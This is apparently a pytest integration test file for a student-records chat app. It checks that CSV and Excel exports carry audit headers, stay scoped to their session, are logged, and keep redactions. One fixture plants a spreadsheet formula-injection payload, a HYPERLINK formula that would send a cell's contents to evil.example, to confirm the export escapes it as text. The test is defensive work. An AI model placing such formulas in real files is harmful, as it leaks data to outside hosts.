"""Issue #16, "Exports staff keep": every chat table downloads as CSV and as an Excel workbook.

The real app (create_app) over a demo database of this module's own (it commits an incident with
formula text), both engines. A download serves the server's copy of the table the chat showed, only
to the chat session it was shown in, and leaves a query-log entry naming who took which rows.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from collections.abc import Iterator

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import Engine, select, text
from sqlalchemy.orm import Session

from db.engine import make_session_factory
from db.models import Student
from mcp_server.app import create_app
from mcp_server.settings import Settings
from policies.principal import load_principal
from tests.conftest import ENGINES, fresh_database
from tests.fakes.anthropic_server import FakeAnthropic, Reply, tool_use
from tests.fakes.anthropic_server import text as said
from tests.integration.chat.test_routes import sign_in, sse
from tests.personas import email_of
from tools.runner import Deps, ToolCallError, run_tool
from tools.spreadsheet import csv_cell

ROSTER = "Who is enrolled at Austin?"
INCIDENTS = "List high-severity behavior incidents in the last 30 days"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'


@pytest.fixture(scope="module", params=ENGINES)
def engine(request, tmp_path_factory) -> Iterator[Engine]:
    """A demo database this module may commit to."""
    eng = fresh_database(request.param, request, tmp_path_factory, "chatexports", demo=True)
    yield eng
    eng.dispose()


@pytest.fixture(scope="module")
def client(engine) -> Iterator[TestClient]:
    with TestClient(create_app(engine, demo_mode=True)) as http:
        yield http


def principal(engine, name: str):
    with Session(engine) as s:
        return load_principal(s, email=email_of(name))


@pytest.fixture(scope="module")
def planted(engine) -> str:
    """A high-severity incident at Austin whose description is spreadsheet formula text."""
    deps = Deps(session_factory=make_session_factory(engine))
    with Session(engine) as s:
        student = s.execute(select(Student.id).where(Student.student_number == 100001)).scalar_one()
    arguments = {
        "student_id": str(student),
        "occurred_on": (dt.date.today() - dt.timedelta(days=1)).isoformat(),
        "category": "@SUM(1+1)",
        "severity": "high",
        "description": FORMULA,
        "action_taken": "+call guardians",
    }
    run_tool(deps, principal(engine, "network_admin"), "record_behavior_incident", arguments)
    return FORMULA


def ask(client, headers, question: str) -> list[tuple[str, dict]]:
    response = client.post("/chat/api/ask", json={"question": question, "mode": "offline"}, headers=headers)
    assert response.status_code == 200
    return sse(response)


def tables(events, tool: str) -> list[dict]:
    """The table views of `tool`'s results."""
    found = []
    for kind, data in events:
        if kind == "tool_result" and data["name"] == tool:
            found += [v for v in data["views"] if v["kind"] == "table"]
    return found


def result_seq(events, tool: str) -> int:
    return next(d["audit_seq"] for k, d in events if k == "tool_result" and d["name"] == tool)


def log_entry(engine, seq: int) -> dict:
    with Session(engine) as s:
        row = s.execute(
            text(
                "SELECT capability, principal_email, outcome, row_count, arguments, student_ids_disclosed, error_code"
                " FROM query_log WHERE seq = :s"
            ),
            {"s": seq},
        ).one()
    entry = dict(row._mapping)
    for key in ("arguments", "student_ids_disclosed"):
        if isinstance(entry[key], str):  # SQLite hands JSON back as text
            import json

            entry[key] = json.loads(entry[key])
    return entry


def split_csv(body: bytes) -> tuple[dict[str, str], list[list[str]]]:
    """(header block as label -> value, table rows with the column header first) of a downloaded CSV."""
    assert body.startswith("\ufeff".encode())
    lines = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    blank = lines.index([])
    return dict(lines[:blank]), lines[blank + 1 :]


def test_a_roster_downloads_as_csv_with_the_question_the_caller_and_the_as_of_date(client, engine):
    headers = sign_in(client, persona="registrar_austin")
    events = ask(client, headers, ROSTER)
    (view,) = tables(events, "query_roster")
    assert set(view["export"]) == {"csv", "xlsx", "filename"}
    response = client.get(view["export"]["csv"], headers=headers)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert f'filename="roster-{dt.date.today().isoformat()}.csv"' in response.headers["content-disposition"]
    block, rows = split_csv(response.content)
    assert block["Question"] == ROSTER
    assert block["Asked by"] == "Rosa Delgado <registrar.austin@sis.example>"
    assert "registrar at Austin" in block["Roles"]
    assert block["As of"] == dt.date.today().isoformat()
    assert block["Time zone"].split(" ")[0] == (dt.datetime.now().astimezone().tzname() or "UTC")
    assert block["Answer"] == f"query_roster, query log #{result_seq(events, 'query_roster')}"
    assert block["Download"] == f"query log #{response.headers['x-audit-seq']}"
    # The file's table is the chat's table, cell for cell.
    assert rows[0] == view["columns"]
    assert rows[1:] == [[csv_cell(c) for c in row] for row in view["rows"]]


def test_the_same_table_downloads_as_a_workbook_with_a_header_block_and_typed_cells(client):
    headers = sign_in(client, persona="registrar_austin")
    (view,) = tables(ask(client, headers, ROSTER), "query_roster")
    response = client.get(view["export"]["xlsx"], headers=headers)
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(response.content)).active
    labels = {sheet.cell(row=r, column=1).value: sheet.cell(row=r, column=2) for r in range(1, 11)}
    assert labels["Question"].value == ROSTER
    assert labels["Asked by"].value == "Rosa Delgado <registrar.austin@sis.example>"
    assert labels["Roles"].value.startswith("registrar at Austin")
    assert labels["As of"].is_date and labels["As of"].value.date() == dt.date.today()
    assert "Time zone" in labels
    top = next(r for r in range(1, 20) if sheet.cell(row=r, column=1).value == view["columns"][0])
    assert [c.value for c in sheet[top]] == view["columns"]
    assert sheet.freeze_panes == f"A{top + 1}"
    assert sheet.column_dimensions["B"].width >= 10
    first = [c for c in sheet[top + 1]]
    number, start = view["columns"].index("Student #"), view["columns"].index("Start")
    assert first[number].data_type == "n" and first[number].value == view["rows"][0][number]
    assert first[start].is_date and first[start].value.date().isoformat() == view["rows"][0][start]
    assert sheet.max_row == top + len(view["rows"])


def test_formula_text_in_a_table_stays_text_in_both_files(client, planted):
    headers = sign_in(client, persona="registrar_austin")
    events = ask(client, headers, INCIDENTS)
    (view,) = tables(events, "list_behavior_incidents")
    assert any(planted in row for row in view["rows"])
    _, rows = split_csv(client.get(view["export"]["csv"], headers=headers).content)
    mine = next(r for r in rows if "'" + planted in r)
    assert "'@SUM(1+1)" in mine and "'+call guardians" in mine
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    body = client.get(view["export"]["xlsx"], headers=headers).content
    sheet = load_workbook(io.BytesIO(body)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == planted]
    assert cells and all(c.data_type == "s" for c in cells)
    assert "<f>" not in zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml").decode()


def test_a_download_is_a_disclosure_in_the_query_log(client, engine):
    headers = sign_in(client, persona="registrar_austin")
    events = ask(client, headers, ROSTER)
    (view,) = tables(events, "query_roster")
    answered = log_entry(engine, result_seq(events, "query_roster"))
    response = client.get(view["export"]["xlsx"], headers=headers)
    entry = log_entry(engine, int(response.headers["x-audit-seq"]))
    assert entry["capability"] == "query_roster"
    assert entry["principal_email"] == "registrar.austin@sis.example"
    assert str(entry["outcome"]).lower().endswith("ok")
    assert entry["row_count"] == len(view["rows"])
    assert entry["arguments"]["channel"] == "chat"
    assert entry["arguments"]["export"] == {
        "format": "xlsx",
        "table": view["title"],
        "question": ROSTER,
        "answer_seq": result_seq(events, "query_roster"),
        "rows_matching": view["total"],
    }
    assert entry["student_ids_disclosed"] == answered["student_ids_disclosed"] != []


def test_another_sessions_table_an_unknown_id_and_no_session_are_refused(client):
    mine = sign_in(client, persona="registrar_austin")
    (view,) = tables(ask(client, mine, ROSTER), "query_roster")
    other = sign_in(client, persona="registrar_austin")  # the same person in another chat
    assert client.get(view["export"]["csv"], headers=other).status_code == 404
    assert client.get(view["export"]["xlsx"], headers=other).status_code == 404
    assert client.get("/chat/api/exports/not-a-real-id.csv", headers=mine).status_code == 404
    assert client.get(view["export"]["csv"].replace(".csv", ".html"), headers=mine).status_code == 404
    assert client.get(view["export"]["csv"]).status_code == 401
    assert client.get(view["export"]["csv"], headers=mine).status_code == 200


def test_signing_out_drops_the_sessions_tables(client):
    headers = sign_in(client, persona="registrar_austin")
    (view,) = tables(ask(client, headers, ROSTER), "query_roster")
    assert client.delete("/chat/api/session", headers=headers).status_code == 204
    assert client.get(view["export"]["csv"], headers=headers).status_code == 401
    again = sign_in(client, persona="registrar_austin")
    assert client.get(view["export"]["csv"], headers=again).status_code == 404


def test_a_session_keeps_only_its_last_tables(engine):
    app = create_app(engine, settings=Settings.from_environ({"SIS_CHAT_EXPORT_TABLES": "2"}), demo_mode=True)
    with TestClient(app) as http:
        headers = sign_in(http, persona="registrar_austin")
        links = [tables(ask(http, headers, ROSTER), "query_roster")[0]["export"]["csv"] for _ in range(3)]
        assert [http.get(link, headers=headers).status_code for link in links] == [404, 200, 200]


def test_a_caller_who_may_no_longer_read_the_rows_is_refused_and_logged(engine):
    from tools.runner import record_export

    deps = Deps(session_factory=make_session_factory(engine))
    finance = principal(engine, "finance_academy")
    with pytest.raises(ToolCallError) as refused:
        record_export(
            deps,
            finance,
            "find_missing_immunizations",
            {"format": "csv"},
            channel="chat",
            student_ids=["x"],
            row_count=3,
        )
    assert refused.value.status == 403 and "immunization records are not visible" in refused.value.message
    entry = log_entry(engine, refused.value.audit_seq)
    assert entry["error_code"] == "permission_denied" and entry["student_ids_disclosed"] == []


def test_values_redacted_in_the_chat_table_stay_redacted_in_the_files(engine):
    """An auditor without immunization access sees a nurse-area refusal's message as redacted; so does the file."""
    deps = Deps(session_factory=make_session_factory(engine))
    with pytest.raises(ToolCallError):
        run_tool(deps, principal(engine, "finance_academy"), "find_missing_immunizations", {})
    search = {"trail": "query_log", "capability": "find_missing_immunizations", "outcome": "denied", "limit": 5}
    script = [Reply([tool_use("search_audit_log", search)], "tool_use"), Reply([said("Here they are.")])]
    with FakeAnthropic(script) as fake:
        environ = {"ANTHROPIC_API_KEY": "sk-ant-test", "ANTHROPIC_BASE_URL": fake.url}
        app = create_app(engine, settings=Settings.from_environ(environ), demo_mode=True)
        with TestClient(app) as http:
            headers = sign_in(http, persona="auditor_network")
            events = sse(http.post("/chat/api/ask", json={"question": "denied immunization reads?"}, headers=headers))
            view = tables(events, "search_audit_log")[0]
            message = view["columns"].index("Error message")
            assert {row[message] for row in view["rows"]} == {"[redacted: immunization]"}
            _, rows = split_csv(http.get(view["export"]["csv"], headers=headers).content)
            assert {row[message] for row in rows[1:]} == {"[redacted: immunization]"}
            assert "not visible" not in http.get(view["export"]["csv"], headers=headers).text
            sheet = load_workbook(io.BytesIO(http.get(view["export"]["xlsx"], headers=headers).content)).active
            texts = {str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None}
            assert "[redacted: immunization]" in texts and not any("not visible" in t for t in texts)
            occurred = view["columns"].index("Occurred at")
            top = next(r for r in range(1, 20) if sheet.cell(row=r, column=1).value == view["columns"][0])
            assert sheet.cell(row=top + 1, column=occurred + 1).is_date  # timestamps are typed too
